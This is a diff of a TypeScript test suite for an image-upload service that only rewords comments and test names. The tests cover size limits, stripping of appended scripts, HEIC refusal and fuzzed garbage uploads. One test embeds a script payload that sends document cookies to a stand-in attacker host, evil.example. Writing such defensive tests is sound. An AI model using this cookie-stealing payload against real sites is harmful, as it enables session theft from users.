@@ -28,13 +28,13 @@ async function pictures(): Promise<number> {
 
 interface Endless {
   readonly status: number | undefined;
-  /** Bytes that had been sent when the answer came. */
+  /** Bytes sent before the answer arrived. */
   readonly sent: number;
-  /** The memory in use at most, in bytes more than before. */
+  /** The increase of memory at its peak, in bytes. */
   readonly peak: number;
 }
 
-/** Sends `head` and then 100 MB, as fast as they are taken, until an answer comes. */
+/** Sends `head` and then 100 MB, as fast as they are accepted, until an answer arrives. */
 function sendEndlessly(head: string): Promise<Endless> {
   const piece = Buffer.alloc(64 * 1024, 'a');
   const before = process.memoryUsage().arrayBuffers;
@@ -74,12 +74,12 @@ test.each([
   const known = await pictures();
   const { status, sent, peak } = await sendEndlessly(head);
   expect(status).toBe(413);
-  expect(sent).toBeLessThan(30 * MB); // the limit, and what is on its way between two sockets
+  expect(sent).toBeLessThan(30 * MB); // the limit, and socket buffers
   expect(peak).toBeLessThan(40 * MB);
   expect(await pictures()).toBe(known);
 });
 
-test('a script behind a JPEG does not come back with the picture', async () => {
+test('a script appended to a JPEG is removed', async () => {
   const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
   const { secure_url } = await anna.upload(Buffer.concat([await aPicture(), Buffer.from(script)]), 'profile');
   const shown = await anna.request(secure_url);
@@ -88,7 +88,7 @@ test('a script behind a JPEG does not come back with the picture', async () => {
   expect(Buffer.from(await shown.arrayBuffer()).includes('script')).toBe(false);
 });
 
-test('a HEIC, as a phone stores it, is refused with a line that says which formats are taken', async () => {
+test('a HEIC from a phone is refused with the accepted formats', async () => {
   const heic = Buffer.concat([
     Buffer.from([0, 0, 0, 24]),
     Buffer.from('ftypheic\0\0\0\0mif1heic'),
@@ -100,7 +100,7 @@ test('a HEIC, as a phone stores it, is refused with a line that says which forma
 
 const nastyBytes = fc.oneof(
   fc.uint8Array({ maxLength: 3_000 }),
-  // The beginnings of pictures, and then anything.
+  // Starts of pictures, followed by rubbish.
   fc
     .tuple(
       fc.constantFrom(
@@ -142,7 +142,7 @@ test('200 uploads of rubbish are refused, and none leaves a picture behind', asy
   expect(await pictures()).toBe(known);
 });
 
-test('200 bodies that are no form at all are refused', async () => {
+test('200 bodies that are not forms are refused', async () => {
   await fc.assert(
     fc.asyncProperty(
       fc.string({ maxLength: 500 }),
